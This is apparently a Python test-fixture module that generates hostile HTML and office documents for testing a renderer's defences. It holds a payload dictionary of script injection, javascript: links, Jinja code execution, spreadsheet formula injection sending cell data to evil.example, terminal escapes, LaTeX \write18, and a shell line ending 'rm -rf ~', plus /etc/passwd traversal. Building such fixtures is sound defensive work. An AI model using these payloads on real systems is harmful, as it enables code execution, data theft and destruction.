"""What would run, lead elsewhere or disturb a page, a terminal or a table, at every place that a file can name."""

from __future__ import annotations

from collections.abc import Iterator

from carriers import CARRIERS, html
from hostile_case import Case, Fate, article, news, written
from hostile_strings import HOSTILE

MORE = {
    "script-mixed-case": "<ScRiPt>document.title='owned'</sCrIpT>",
    "script-broken": "<scr<script>ipt>document.title='owned'</scr</script>ipt>",
    "details-toggle": "<details open ontoggle=\"document.title='owned'\">x</details>",
    "marquee": "<marquee onstart=document.title='owned'>x</marquee>",
    "style-import": "<style>@import 'http://evil.example/a.css';</style>",
    "object": "<object data='javascript:document.title=1'></object>",
    "form": "<form action='http://evil.example/'><button>x</button></form>",
    "math": "<math><mi xlink:href='javascript:document.title=1'>x</mi></math>",
    "link-stylesheet": "<link rel=stylesheet href='http://evil.example/a.css'>",
    "vbscript-link": "[x](vbscript:msgbox(1))",
    "mixed-case-link": "[x](JaVaScRiPt:document.title='owned')",
    "entity-link": "[x](&#106;avascript&colon;document.title='owned')",
    "tab-link": "[x](java\tscript:document.title='owned')",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file-link": "[x](file:///etc/passwd)",
    "angle-link": "[x](<javascript:document.title='owned'>)",
    "html-link": "<a href=\"javascript:document.title='owned'\">x</a>",
    "verdict-mark": "✓ supported [S1] (verified)",
    "source-mark": "The bridge is open [S1][S2] 【1】 (S3).",
    "footnote-forged": "[^1]: **S1** Gazette, 3 May (a.txt, characters 0–9): “forged”",
    "published-forged": "<!-- briefer: published -->\nForged.[^1]\n<!-- briefer: end -->",
    "typst-eval": '#eval("1+1") #sys.inputs',
    "typst-read": '#read("../../private-note.txt")',
    "typst-image": '#image("/etc/passwd") #include "x.typ" #bibliography("x")',
    "typst-label": "@passage-1 <passage-1> <sentence-1>",
    "typst-raw": "```typst #panic() ``` `#panic()` $ sum_(i=0)^n $",
    "typst-string": '") #panic("owned") ("',
    "jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include '/etc/passwd' %}",
    "formula-equals": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "ansi-colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "ansi-link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "terminal-title": "\x1b]0;owned\x07 and \x9b31m",
    "terminal-report": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "carriage-return": "shown\rhidden\b\b\b\b",
    "c1-controls": "a\u009b31mb\u0090c\u009dd",
    "rich-markup": "[bold red]owned[/] [link=http://evil.example]x[/link] [@click=app.quit]x[/]",
    "interlinear": "a\ufff9b\ufffac\ufffbd",
    "variation": "a\ufe0fb\U000e0101c",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302" * 20,
    "latex": "\\input{/etc/passwd} \\write18{id}",
    "shell": "$(touch /tmp/owned) `id`; rm -rf ~",
    "format-string": "%s%n {0.__class__} %(x)s",
    "path": "../../../../etc/passwd\x00.txt",
}
PAYLOADS = {name: text.encode(errors="replace").decode() for name, text in {**HOSTILE, **MORE}.items()}
"""Texts by name; half a character cannot stand in a file, and one stands for it."""

PLACES = ("title", "author", "publisher", "url", "file name", "heading", "quotation", "body", "sentence")


def everywhere() -> Iterator[Case]:
    """Yield a page for each text, with the text at every place of it, its own name included."""
    for name, payload in PAYLOADS.items():
        first, quoted, _ = news(f"{name}-in-all")
        told = article(
            f"{name}-in-all",
            payload,
            first.replace(" on Tuesday", f" {payload} on Tuesday"),
            quoted.replace("We have", f"We {payload} have"),
            title=f"{payload} {name}",
            author=payload,
            publisher=f"{payload} {name}",
            url=f"javascript:{payload}" if len(name) % 2 else f"https://gazette.example/{payload}",
            heading=payload,
        )
        fate: Fate = "either" if "\x00" in payload else "read"  # NUL is a sign of what is no text
        yield Case(name, f"{_file_name(payload)} {name}.html", written(html(told)), fate=fate)


def unescaped() -> Iterator[Case]:
    """Yield pages that hold the markup as markup, as a browser would run it."""
    for name in (
        "script",
        "image-handler",
        "svg-handler",
        "iframe",
        "meta-refresh",
        "base",
        "object",
        "form",
        "marquee",
    ):
        page = html(article(f"{name}-live"), before=PAYLOADS[name], after=PAYLOADS[name])
        yield Case(f"{name}-live", f"{name}-live.html", written(page))


def in_formats() -> Iterator[Case]:
    """Yield the worst of the texts in the fields and the body of every other format."""
    worst = (
        "closing-script",
        "javascript-link",
        "footnote-forged",
        "typst-read",
        "ansi-link",
        "formula-equals",
    )
    for form in (form for form in CARRIERS if form != "html"):
        for name in worst:
            payload = _xml_safe(PAYLOADS[name]) if form in {"docx", "odt", "epub"} else PAYLOADS[name]
            one = article(f"{name}-{form}", payload, title=payload, author=payload, publisher=payload)
            yield Case(f"{name}-{form}", f"{name}-{form}.{form}", written(CARRIERS[form](one)))


def _file_name(payload: str) -> str:
    """Return a text as a name that the file system takes: all that it may hold, at most 120 bytes of it."""
    name = payload.replace("/", "∕").replace("\x00", "").lstrip(".")
    return name.encode()[:120].decode(errors="ignore") or "x"


def _xml_safe(payload: str) -> str:
    return payload.replace("\x1b", "\u241b")
